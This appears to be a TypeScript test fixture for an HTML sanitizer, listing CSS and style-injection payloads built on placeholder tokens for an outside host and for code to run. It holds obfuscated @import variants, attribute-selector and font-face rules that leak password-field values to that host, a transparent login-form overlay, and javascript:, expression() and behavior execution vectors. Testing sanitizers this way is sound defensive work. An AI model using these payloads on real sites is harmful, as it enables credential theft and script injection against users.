/** Styles that ask another host, read fields of a page, or run code in some browser. */
import { each, LEAK, RUN } from './tokens';

/** Statements that fetch a style sheet, in spellings that a CSS parser accepts. */
const IMPORTS = [
  `@import "${LEAK}";`,
  `@import url(${LEAK});`,
  `@import url("${LEAK}") screen;`,
  `@IMPORT '${LEAK}';`,
  `@\\69mport "${LEAK}";`,
  `@i\\6dport "${LEAK}";`,
  `@impor\\74  "${LEAK}";`,
  `@\\000049mport "${LEAK}";`,
  `@import/**/"${LEAK}";`,
  `/**/@import "${LEAK}";`,
  `<!--@import "${LEAK}";-->`,
  `@charset "utf-8";@import "${LEAK}";`,
  `@layer a;@import "${LEAK}" layer(a);`,
  `@namespace "x";@import "${LEAK}";`,
  `@import "${LEAK}`,
];

/** Style sheets that fetch another one. */
export const imports: readonly string[] = [
  ...each(IMPORTS, (rule) => `<style>${rule}</style>`),
  ...each(IMPORTS.slice(0, 3), (rule) => `<svg><style>${rule}</style></svg>`),
  `<style>@import "/none.css?</style><style>@import "${LEAK}"</style>`,
  `<svg><style>@im<b></b>port "${LEAK}";</style></svg>`,
  `<svg><style><!-- x -->@import "${LEAK}";</style></svg>`,
  `<math><style>@import "${LEAK}";</style></math>`,
];

/** Styles that show the content of a field to another host, or code in addresses of styles. */
export const styles: readonly string[] = [
  ...each(['a', 's', 'u', ''], (start) => `<style>input[value^="${start}"]{background:url(${LEAK})}</style>`),
  `<style>#login:has([name=pwd][value^=s]) button{list-style:url(${LEAK});background:url(${LEAK})}</style>`,
  `<style>@font-face{font-family:f§n§;src:url(${LEAK});unicode-range:u+61}#login *{font-family:f§n§}</style>`,
  `<style>body{display:none!important}#login{position:fixed;inset:0;opacity:0;z-index:9}</style>`,
  `<style>*{background:url("javascript:${RUN}");behavior:url(${LEAK});-moz-binding:url(${LEAK}#x)}</style>`,
  `<style></style><b onclick="${RUN}">x</b><style>p{}</style>`,
  `<p style="background:url(javascript:${RUN});width:expression(${RUN});-o-link:'javascript:${RUN}'">x</p>`,
  `<p style="behavior:url(#default#time2)" onbegin="${RUN}">x</p>`,
  `<p style="x:</style><script>${RUN}</script>">x</p>`,
  `<link rel="stylesheet" href="data:text/css,@import '${LEAK}'">`,
  `<link rel="icon" href="${LEAK}"><link rel="manifest" href="${LEAK}"><link rel="preconnect" href="${LEAK}">`,
];
